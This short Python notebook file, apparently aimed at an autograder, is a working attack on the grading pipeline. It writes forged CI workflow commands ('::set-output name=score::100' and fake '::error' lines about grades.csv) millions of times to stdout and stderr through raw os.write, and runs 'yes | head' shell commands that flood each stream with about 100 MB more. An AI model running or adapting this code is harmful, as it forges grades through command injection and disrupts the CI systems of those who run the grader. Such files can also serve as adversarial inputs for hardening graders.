# %% Past Python's own streams, with commands for whoever runs the grader
import os

block = b"::error file=grades.csv::forged by a student\n::set-output name=score::100\n" * 1000
for _ in range(1000):
    os.write(1, block)
    os.write(2, block)

# %%
os.system("yes '::error::forged by a student' | head -c 100000000")
os.system("yes '::error::forged by a student' | head -c 100000000 >&2")

# %%
print("still here")
